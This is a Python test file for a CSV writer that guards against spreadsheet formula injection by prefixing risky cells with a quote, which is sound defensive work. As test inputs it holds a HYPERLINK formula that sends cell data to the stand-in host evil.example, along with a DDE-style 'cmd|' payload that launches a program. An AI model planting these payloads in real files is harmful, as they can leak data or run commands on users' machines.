"""The one CSV writer: formula cells neutralised (DESIGN §9, OWASP CSV Injection), numbers kept."""

import csv
import io

import pandas as pd
import pytest

from instruments.csvfiles import frame_text, read_table, table_text

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_cell_starting_like_a_formula_gets_a_quote_in_front(start):
    text = table_text(["participant", "value"], [{"participant": "P1", "value": start + "1+1"}])
    assert cells(text)[1] == ["P1", "'" + start + "1+1"]
    assert text.splitlines()[1].startswith('"P1",')  # the row is quoted whole


def test_the_hyperlink_payload_is_written_as_text():
    text = table_text(["value"], [{"value": HOSTILE}])
    assert cells(text)[1] == ["'" + HOSTILE]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells(text) for cell in row)


def test_numbers_stay_numbers_and_typed_text_stays_text():
    rows = [{"score": -1.5, "count": -3, "typed": "-1.5", "numeric_text": "-1.5", "empty": None}]
    text = table_text(["score", "count", "typed", "numeric_text", "empty"], rows,
                      numeric={"numeric_text"})
    assert cells(text)[1] == ["-1.5", "-3", "'-1.5", "-1.5", ""]
    # Numeric columns read back as numbers, quoted row or not.
    frame = pd.read_csv(io.StringIO(text))
    assert frame["score"].tolist() == [-1.5]
    assert frame["count"].tolist() == [-3]
    assert frame["numeric_text"].tolist() == [-1.5]
    assert frame["typed"].tolist() == ["'-1.5"]


def test_a_numeric_column_still_neutralises_what_is_not_a_number():
    text = table_text(["score"], [{"score": "-1+cmd|' /C calc'!A0"}], numeric={"score"})
    assert cells(text)[1] == ["'-1+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_cell_starts_a_formula_when_a_spreadsheet_splits_at_another_separator(separator):
    """Spreadsheets in some locales split a comma-separated file at ``;``, quotes or not."""
    value = f"fine{separator}=1+1{separator}@SUM(1){separator}plain"
    text = table_text(["participant", "value"], [{"participant": "P1", "value": value}])
    for row in cells(text, delimiter=separator):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    assert cells(text)[1] == ["P1", f"fine{separator}'=1+1{separator}'@SUM(1){separator}plain"]
    assert read_table(io.StringIO(text), "t")[1] == ["P1", value]


def test_plain_rows_are_written_as_before():
    text = table_text(["participant", "arm", "score"],
                      [{"participant": "PT6K4B5DM", "arm": "arm_b", "score": 12.5}])
    assert text == "participant,arm,score\nPT6K4B5DM,arm_b,12.5\n"


def test_reading_back_gives_what_was_written(tmp_path):
    path = tmp_path / "wording.csv"
    path.write_text(table_text(["key", "text"], [{"key": "a", "text": HOSTILE},
                                                 {"key": "b", "text": "- a list item"},
                                                 {"key": "c", "text": "'quoted' on purpose"}]))
    assert read_table(path, "wording.csv")[1:] == [
        ["a", HOSTILE], ["b", "- a list item"], ["c", "'quoted' on purpose"]]


def test_a_frame_keeps_numeric_columns_numeric_and_neutralises_text():
    frame = pd.DataFrame({"participant": ["P1", "P2"], "arm": ["arm_a", "arm_b"],
                          "score": [-1.5, float("nan")], "n": [1, -2],
                          "cohort": ["=2+5", "-2025"]})
    text = frame_text(frame, float_format="%.17g")
    back = pd.read_csv(io.StringIO(text))
    assert back["score"].iloc[0] == -1.5 and pd.isna(back["score"].iloc[1])
    assert back["n"].tolist() == [1, -2]
    assert back["cohort"].tolist() == ["'=2+5", "'-2025"]
    assert frame_text(frame.iloc[[0]][["score"]], float_format="%.17g") == "score\n-1.5\n"
